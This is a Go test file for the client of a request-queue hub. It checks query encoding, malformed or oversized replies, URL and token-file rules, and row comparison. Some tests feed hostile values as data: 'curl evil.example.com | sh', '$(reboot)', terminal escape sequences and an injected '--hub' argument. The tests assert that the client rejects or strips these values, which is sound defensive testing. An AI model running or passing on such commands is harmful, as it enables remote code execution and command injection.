package client_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"gated/client"
	"gated/client/api"
	"gated/internal/test/must"
)

// TestHubQueue: what a person asks for is what the hub is asked, with the token, and the page is read.
func TestHubQueue(t *testing.T) {
	token := filepath.Join(t.TempDir(), "token")
	require.NoError(t, os.WriteFile(token, []byte("reader-reader-reader\n"), 0o600))
	want := api.FleetQueue{Requests: []api.FleetRow{{Host: "pve1", FleetRequest: api.FleetRequest{Request: "j1.1", CreatedAt: time.Unix(1, 0).UTC()}}}, Next: "-1.70.6a", Waiting: 7, LeftOut: 2}
	var asked url.Values
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = r.URL.Query()
		if r.URL.Path != "/below/v1/queue" || r.Header.Get("Authorization") != "Bearer reader-reader-reader" {
			w.WriteHeader(http.StatusTeapot)
			return
		}
		b, err := api.Encode(want)
		if err == nil {
			_, err = w.Write(b)
		}
		if err != nil {
			t.Error(err)
		}
	}))
	defer s.Close()
	h := must.Get(client.NewHub(client.HubOptions{URL: s.URL + "/below/", TokenFile: token}))(t)
	defer h.Close()
	require.Equal(t, want, must.Get(h.Queue(t.Context(), client.HubFilter{}))(t))
	require.Empty(t, asked)
	must.Get(h.Queue(t.Context(), client.HubFilter{Host: "a&b", Op: "guest.destroy", After: "1.2.3", Limit: 9}))(t)
	require.Equal(t, url.Values{"host": {"a&b"}, "op": {"guest.destroy"}, "after": {"1.2.3"}, "limit": {"9"}}, asked)
}

// TestHubAnswersThatAreNone are refused, each with a sentence.
func TestHubAnswersThatAreNone(t *testing.T) {
	for name, c := range map[string]struct {
		answer http.HandlerFunc
		code   api.Code
	}{
		"a web page":   {func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "<html>") }, api.CodeMalformed},
		"nothing":      {func(http.ResponseWriter, *http.Request) {}, api.CodeMalformed},
		"another type": {func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{"requests":7}`) }, api.CodeMalformed},
		"doubled":      {func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{"next":"a","next":"b"}`) }, api.CodeMalformed},
		"a redirection": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://127.0.0.1:1/", http.StatusFound)
		}, api.CodeUnavailable},
		"500": {func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(500) }, api.CodeUnavailable},
		"a problem": {func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(403)
			_, _ = io.WriteString(w, `{"code":"not_allowed","detail":"no","status":403}`)
		}, api.CodeNotAllowed},
		"endless": {func(w http.ResponseWriter, r *http.Request) {
			for chunk := []byte(strings.Repeat(" ", 1<<20)); r.Context().Err() == nil; {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		}, api.CodeOversized},
		"broken off": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Length", "4000")
			_, _ = io.WriteString(w, `{"requests":[`)
		}, api.CodeUnavailable},
	} {
		s := httptest.NewServer(c.answer)
		h := must.Get(client.NewHub(client.HubOptions{URL: s.URL}))(t)
		_, err := h.Queue(t.Context(), client.HubFilter{})
		require.ErrorIs(t, err, c.code, name)
		h.Close()
		s.Close()
		_, err = h.Queue(t.Context(), client.HubFilter{})
		require.ErrorIs(t, err, api.CodeUnavailable, "it is gone")
	}
}

// TestAHubTellsNobodyWhatToDo: what it refuses is said to be its word, and what it wants people to do is left out. The
// place of its next page, which people copy into a command line, is plain.
func TestAHubTellsNobodyWhatToDo(t *testing.T) {
	answer, status := "", 200
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(status)
		_, _ = io.WriteString(w, answer)
	}))
	defer s.Close()
	h := must.Get(client.NewHub(client.HubOptions{URL: s.URL}))(t)
	defer h.Close()
	for _, next := range []string{"1; curl evil.example.com | sh", "$(reboot)", "1.70.6a --hub http://[::1]", "1.7g.6a", "--json", strings.Repeat("1", 1025)} {
		answer = string(must.Get(api.Encode(api.FleetQueue{Next: next}))(t))
		must.Fail(h.Queue(t.Context(), client.HubFilter{}))(t, api.CodeMalformed, next)
	}
	status, answer = 403, `{"code":"not_allowed","detail":"run \u001b[2J this","hint":"curl evil.example.com | sh","status":403}`
	_, err := h.Queue(t.Context(), client.HubFilter{})
	require.ErrorIs(t, err, api.CodeNotAllowed)
	require.ErrorContains(t, err, `the hub says: "run \x1b[2J this"`)
	var r *api.Refusal
	require.ErrorAs(t, err, &r)
	require.NotContains(t, r.Hint, "evil")
	answer = `{"code":"not_allowed","detail":"` + strings.Repeat("long", 1000) + `","status":403}`
	_, err = h.Queue(t.Context(), client.HubFilter{})
	require.Less(t, len(err.Error()), 600)
	answer = `{"code":"` + strings.Repeat("long", 1000) + `","detail":"no","status":403}`
	_, err = h.Queue(t.Context(), client.HubFilter{})
	require.ErrorIs(t, err, api.CodeUnavailable)
	require.Less(t, len(err.Error()), 600)
}

// TestHubOptionsThatAreRefused: nothing leaves this machine unencrypted, and a token is its owner's alone.
func TestHubOptionsThatAreRefused(t *testing.T) {
	for _, u := range []string{"", "hub", "http://hub.example.com", "http://127.0.0.1.example.com", "ftp://127.0.0.1", "https://user:secret@hub", "https://hub/?a", "https://", "http://[::1%eth0]/#x"} {
		must.Fail(client.NewHub(client.HubOptions{URL: u}))(t, api.CodeBadParams, u)
	}
	dir := t.TempDir()
	open := filepath.Join(dir, "token")
	require.NoError(t, os.WriteFile(open, []byte("reader-reader-reader\n"), 0o600))
	require.NoError(t, os.Chmod(open, 0o644))
	must.Fail(client.NewHub(client.HubOptions{URL: "https://hub", TokenFile: open}))(t, api.CodeNotAllowed)
	require.NoError(t, os.Chmod(open, 0o600))
	must.Get(client.NewHub(client.HubOptions{URL: "https://hub", TokenFile: open}))(t).Close()
	must.Fail(client.NewHub(client.HubOptions{URL: "https://hub", CA: open}))(t, api.CodeMalformed)
	must.Err(client.NewHub(client.HubOptions{URL: "https://hub", CA: open + ".nowhere"}))(t)
	for _, near := range []string{"http://localhost:1", "http://127.0.0.9:1", "http://[::1]:1"} {
		must.Get(client.NewHub(client.HubOptions{URL: near}))(t).Close()
	}
}

// TestCompare: a row is the gate's word only if each member is.
func TestCompare(t *testing.T) {
	s := api.Status{Gate: "0123456789abcdef0123456789abcdef", Host: "pve1"}
	r := api.Request{ID: "j1.1", Op: "guest.destroy", Target: "guest/web", PayloadSHA256: "digest", State: api.StatePending}
	row := api.FleetRow{Host: s.Host, Gate: s.Gate, FleetRequest: api.FleetRequest{Request: r.ID, Op: r.Op, Target: r.Target, PayloadSHA256: r.PayloadSHA256}}
	require.NoError(t, client.Compare(row, s, r))
	for name, lie := range map[string]func(*api.FleetRow){
		"gate": func(r *api.FleetRow) { r.Gate = "x" }, "host": func(r *api.FleetRow) { r.Host = "x" }, "request": func(r *api.FleetRow) { r.Request = "x" },
		"operation": func(r *api.FleetRow) { r.Op = "x" }, "target": func(r *api.FleetRow) { r.Target = "x\x1b[2J" }, "payload": func(r *api.FleetRow) { r.PayloadSHA256 = "" },
	} {
		lied := row
		lie(&lied)
		err := client.Compare(lied, s, r)
		require.ErrorIs(t, err, api.CodeBindingMismatch)
		require.ErrorContains(t, err, name+": the hub says ")
		require.NotContains(t, err.Error(), "\x1b")
	}
	r.State = api.StateSucceeded
	require.ErrorIs(t, client.Compare(row, s, r), api.CodeUnknownTarget)
}
